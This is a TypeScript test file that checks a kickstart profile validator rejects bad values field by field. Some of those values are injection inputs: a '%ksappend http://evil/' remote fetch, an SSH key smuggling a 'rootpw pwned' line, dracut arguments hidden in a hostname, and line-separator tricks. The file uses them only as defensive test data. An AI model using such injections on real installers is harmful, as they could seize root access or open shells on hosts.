// SPDX-License-Identifier: GPL-2.0-or-later
// The rules that pykickstart and Anaconda do not check for us: each wrong value is refused at its own field, in words that say how to mend it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fixtureDocument } from './fixtures.ts';
import { Host } from './host.ts';
import { canonicalMac } from './names.ts';
import { Profile } from './profile.ts';

type Json = Record<string, unknown>;
const isObject = (value: unknown): value is Json => typeof value === 'object' && value !== null && !Array.isArray(value);

/** The fixture `minimal` with `change` merged in, objects deeply and everything else replaced. */
function changed(change: Json, base: unknown = fixtureDocument('minimal')): Json {
  const result: Json = { ...(isObject(base) ? base : {}) };
  for (const [key, value] of Object.entries(change)) result[key] = isObject(value) && isObject(result[key]) ? changed(value, result[key]) : value;
  return result;
}

const sda = { by: 'device', device: 'sda' };
const volume = (mount: string, more: Json = {}) => ({ mount, name: mount.slice(1).replaceAll('/', '_'), size: 5120, ...more });
const nic = (more: Json = {}) => ({ kind: 'ethernet', device: 'eno1', ...more });
const HASH = '$6$rounds=100000$abcdefghijklmnop$QZBKsj3j8Th6BB5acEPb9Wr2SphnvHj2A7TfW7rGn4NEh7kyA336OwzHx7Q0TYksdHCII8HVX1Sa.RyZaqRwq.';
const YESCRYPT = '$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7';

/** What is wrong, where it must be said, and a word of the message. The values of pykickstart's own blind spots are among them. */
const refused: [string, Json, string, RegExp][] = [
  ['an unknown key', { imaje: {} }, '', /imaje/],
  ['the name of a page as id', { id: 'new' }, 'id', /pages of their own/],
  ['a missing title', { title: undefined }, 'title', /^This is missing; give text\.$/],
  ['a number as title', { title: 5 }, 'title', /^Give text here\.$/],
  ['a list of choices missed', { finish: { action: 'sleep' } }, 'finish.action', /^Use one of: reboot, poweroff, halt\.$/],
  ['a maintenance window that is none', { layout: { upgrade: { window: 'at night' } } }, 'layout.upgrade.window', /no maintenance window\. Write "never", "any", or days/],
  ['a window with a day that is none', { layout: { upgrade: { window: 'Sat,sun 02:00-05:00' } } }, 'layout.upgrade.window', /"sun" is no day/],
  ['a window with a day twice', { layout: { upgrade: { window: 'Sat,Sat 02:00-05:00' } } }, 'layout.upgrade.window', /twice/],
  ['a window at a time that is none', { layout: { upgrade: { window: 'daily 02:00-24:00' } } }, 'layout.upgrade.window', /24:00 is no time of day/],
  ['a window without length', { layout: { upgrade: { window: 'daily 02:00-02:00' } } }, 'layout.upgrade.window', /ends when it begins/],
  ['a window with a line after it', { layout: { upgrade: { window: 'any\nkey = x' } } }, 'layout.upgrade.window', /no maintenance window/],
  ['a health check without time', { layout: { upgrade: { healthMinutes: 0 } } }, 'layout.upgrade.healthMinutes', /At least one minute/],
  ['a health check of half a day', { layout: { upgrade: { healthMinutes: 720 } } }, 'layout.upgrade.healthMinutes', /At most 120/],
  ['a format of the future', { format: 2 }, 'format', /format 1/],
  ['a time zone that is none', { locale: { timezone: 'Mars/Phobos' } }, 'locale.timezone', /time zone/],
  ['a zone in the wrong case', { locale: { timezone: 'europe/berlin' } }, 'locale.timezone', /time zone/],
  ['a language that is none', { locale: { lang: 'xx_YY.bad' } }, 'locale.lang', /language/],
  ['a keyboard that is none', { locale: { keyboards: ['zz'] } }, 'locale.keyboards.0', /layout/],
  ['an NTP server with a blank', { locale: { ntp: { mode: 'servers', servers: ['a b'] } } }, 'locale.ntp.servers.0', /host name or an address/],
  ['a root hash that is none', { users: { root: { password: 'hashed', hash: 'notahash' } } }, 'users.root.hash', /\$6\$/],
  ['an MD5 hash', { users: { root: { password: 'hashed', hash: '$1$abc$0123456789012345678901' } } }, 'users.root.hash', /hash/],
  ['yescrypt on Enterprise Linux 8', { target: 'rhel8', users: { root: { password: 'hashed', hash: YESCRYPT } } }, 'users.root.hash', /yescrypt/],
  ['--allow-ssh on Enterprise Linux 9', { users: { root: { password: 'hashed', hash: HASH, allowSsh: true } } }, 'users.root.allowSsh', /allow-ssh/],
  ['an empty user name', { users: { accounts: [{ name: '' }] } }, 'users.accounts.0.name', /login|letters/i],
  ['a user name with a colon', { users: { accounts: [{ name: 'bad:name' }] } }, 'users.accounts.0.name', /letters/],
  ['root as an account', { users: { accounts: [{ name: 'root' }] } }, 'users.accounts.0.name', /already/],
  ['an account twice', { users: { accounts: [{ name: 'bob' }, { name: 'bob' }] } }, 'users.accounts.1.name', /twice/],
  ['a colon in the full name', { users: { accounts: [{ name: 'bob', gecos: 'a:b' }] } }, 'users.accounts.0.gecos', /colon/],
  ['a private key', { users: { root: { password: 'locked', sshKeys: ['-----BEGIN OPENSSH PRIVATE KEY-----'] } } }, 'users.root.sshKeys.0', /public key/],
  ['a key that is another inside', { users: { root: { password: 'locked', sshKeys: ['ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIAICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgIC'] } } }, 'users.root.sshKeys.0', /inside it is/],
  ['a key and a line after it', { users: { root: { password: 'locked', sshKeys: ['ssh-ed25519 AAAA\nrootpw pwned'] } } }, 'users.root.sshKeys.0', /line break/],
  ['a bad host name', { network: { hostname: 'bad host' } }, 'network.hostname', /dots/],
  ['dracut arguments as a host name', { network: { hostname: 'h1 inst.sshd rd.break' } }, 'network.hostname', /dots/],
  ['a VLAN number too high', { network: { interfaces: [{ kind: 'vlan', parent: 'eno1', vlanId: 5000 }] } }, 'network.interfaces.0.vlanId', /4094/],
  ['an interface twice', { network: { interfaces: [nic(), nic()] } }, 'network.interfaces.1.device', /twice/],
  ['a member of two bonds', { network: { interfaces: [{ kind: 'bond', device: 'bond0', members: ['eno1'] }, { kind: 'bond', device: 'bond1', members: ['eno1'] }] } }, 'network.interfaces.1.members', /belongs to another/],
  ['a gateway outside the network', { network: { interfaces: [nic({ ipv4: { method: 'static', address: '192.0.2.10', prefix: 25, gateway: '192.0.2.200' } })] } }, 'network.interfaces.0.ipv4.gateway', /not in the network/],
  ['no address at all', { network: { interfaces: [nic({ ipv4: { method: 'disabled' }, ipv6: { method: 'disabled' } })] } }, 'network.interfaces.0.ipv4', /neither/],
  ['an image over FTP', { image: { url: 'ftp://h/i' } }, 'image.url', /http:\/\//],
  ['an image with a password', { image: { url: 'http://u:p@h/i' } }, 'image.url', /password/],
  ['an image with a fragment', { image: { url: 'http://h/a#b' } }, 'image.url', /%23/],
  ['an image URL with a blank', { image: { url: 'http://h/a b' } }, 'image.url', /%20/],
  ['an empty image URL', { image: { url: '' } }, 'image.url', /URL/],
  ['a tar archive with a query', { image: { url: 'http://h/a.tar.xz?token=1' } }, 'image.url', /end of the URL/],
  ['a checksum that is none', { image: { checksum: 'zz' } }, 'image.checksum', /64/],
  ['an NVR without release', { image: { nvr: 'mynode-1' } }, 'image.nvr', /NAME-VERSION-RELEASE/],
  ['an NVR with a line end', { image: { nvr: 'my-node-1.0-1\n' } }, 'image.nvr', /letters/],
  ['an NVR too long for its layer', { image: { nvr: `node-${'1'.repeat(47)}-1` } }, 'image.nvr', /53/],
  ['an NVR without "node"', { image: { nvr: 'my-image-1.0-1' } }, 'image.nvr', /boot entry/],
  ['no volume for /var', { storage: { volumes: [volume('/home')] } }, 'storage.volumes', /\/var/],
  ['a path twice', { storage: { volumes: [volume('/var'), volume('/var', { name: 'other' })] } }, 'storage.volumes.1.mount', /twice/],
  ['a name twice', { storage: { volumes: [volume('/var'), volume('/data', { name: 'var' })] } }, 'storage.volumes.1.name', /already/],
  ['the name of one of imgbased\'s own volumes', { storage: { volumes: [volume('/var'), volume('/data', { name: 'var_log' })] } }, 'storage.volumes.1.name', /\/var\/log/],
  ['the name of the layer', { image: { nvr: 'my-node-1.0-1' }, storage: { volumes: [volume('/var'), volume('/data', { name: 'my-node-1.0-1+1' })] } }, 'storage.volumes.1.name', /layer/],
  ['a volume for /usr', { storage: { volumes: [volume('/var'), volume('/usr')] } }, 'storage.volumes.1.mount', /belongs to the image/],
  ['a negative size', { storage: { root: { size: -5 } } }, 'storage.root.size', /1 MiB/],
  ['btrfs', { storage: { root: { fstype: 'btrfs' } } }, 'storage.root.fstype', /xfs or ext4/],
  ['a small /boot', { storage: { boot: { method: 'part', size: 1024 } } }, 'storage.boot.size', /1100/],
  ['no head-room for metadata', { storage: { reserved: 1024 } }, 'storage.reserved', /2048/],
  ['a pool smaller than root and /var', { storage: { pool: { name: 'p', size: 10_000 } } }, 'storage.pool.size', /root volume and \/var/],
  ['a disk that is too small', { storage: { diskSize: 20_000 } }, 'storage.diskSize', /too small/],
  ['a partition as disk', { storage: { disk: { by: 'device', device: 'sda1' } } }, 'storage.disk.device', /whole disk/],
  ['a disk rule upside down', { storage: { disk: { by: 'size', pick: 'smallest', min: 9, max: 3 } } }, 'storage.disk.max', /below/],
  ['a short LUKS passphrase', { storage: { luks: { passphrase: 'short' } } }, 'storage.luks.passphrase', /8 characters/],
  ['a service enabled and disabled', { services: { enabled: ['sshd'], disabled: ['sshd'] } }, 'services.disabled.0', /at once/],
  ['a port that is none', { services: { firewall: { ports: ['x'] } } }, 'services.firewall.ports.0', /8080:tcp/],
  ['openings in no firewall', { services: { firewall: { enabled: false, services: ['ssh'] } } }, 'services.firewall.enabled', /off/],
  ['a script that ends its section', { scripts: [{ section: 'post', body: 'cat <<E\n%end\nE\n' }] }, 'scripts.0.body', /Line 2/],
  ['a script that fetches', { scripts: [{ section: 'post', body: '%ksappend http://evil/' }] }, 'scripts.0.body', /%ksappend/],
  ['%pre outside', { scripts: [{ section: 'pre', body: 'true', nochroot: true }] }, 'scripts.0.nochroot', /Only %post/],
  ['a kernel argument of imgbased', { finish: { kernelArguments: ['root=/dev/sda1'] } }, 'finish.kernelArguments.0', /imgbased sets/],
  ['a kernel argument with a blank', { finish: { kernelArguments: ['a b'] } }, 'finish.kernelArguments.0', /without blanks/],
  ['kdump on Fedora', { target: 'fedora45', finish: { kdump: { mode: 'disabled' } } }, 'finish.kdump.mode', /kdump/],
  ['a kept line that sets root\'s password', { extra: { commands: ['rootpw --plaintext x'] } }, 'extra.commands.0', /another part/],
  ['a kept line with a password', { extra: { commands: ['vnc --password=secret'] } }, 'extra.commands.0', /secret/],
  ['a kept line of two lines', { extra: { commands: ['# a\u2028rootpw x'] } }, 'extra.commands.0', /line break/],
  ['a kept command the target dropped', { target: 'rhel10', extra: { commands: ['autostep'] } }, 'extra.commands.0', /no longer|not a kickstart/],
];

for (const [what, change, path, message] of refused) {
  test(`refuses ${what}`, () => {
    const result = Profile.safeParse(changed(change));
    assert.ok(!result.success, 'it was taken');
    const there = result.error.issues.filter((issue) => issue.path.join('.') === path);
    assert.ok(there.some((issue) => message.test(issue.message)), `${path}: ${JSON.stringify(result.error.issues.map((issue) => [issue.path.join('.'), issue.message]))}`);
  });
}

test('without the layout step its rules do not hold', () => {
  const plain = changed({ layout: { init: false }, image: { nvr: 'my-image-1.0-1' }, storage: { disk: sda, volumes: [], reserved: 0 } });
  assert.equal(Profile.safeParse(plain).success, true);
});

test('a MAC address has one canonical spelling', () => {
  for (const spelling of ['52:54:00:AB:cd:EF', '52-54-00-ab-cd-ef', '5254.00ab.cdef', '525400ABCDEF', '01-52-54-00-ab-cd-ef']) assert.equal(canonicalMac(spelling), '52:54:00:ab:cd:ef', spelling);
  for (const wrong of ['', '52:54:00:ab:cd', '52:54:00:ab:cd:eg', '52:54-00:ab:cd:ef', '52:54:00:ab:cd:ef\n', ' 52:54:00:ab:cd:ef', '02-52-54-00-ab-cd-ef', '52:54:00:ab:cd:ef:00']) assert.equal(canonicalMac(wrong), undefined, wrong);
});

test('a host needs a card of its own, a name and a profile; its id is its name', () => {
  const host = Host.parse({ hostname: 'Node1.Example.com', macs: ['525400abcdef'], profile: 'p' });
  assert.deepEqual([host.id, host.macs], ['node1.example.com', ['52:54:00:ab:cd:ef']]);
  for (const macs of [[], ['ff:ff:ff:ff:ff:ff'], ['01:00:5e:00:00:01'], ['00:00:00:00:00:00'], ['525400abcdef', '52:54:00:ab:cd:ef']]) assert.equal(Host.safeParse({ hostname: 'n', macs, profile: 'p' }).success, false, JSON.stringify(macs));
});
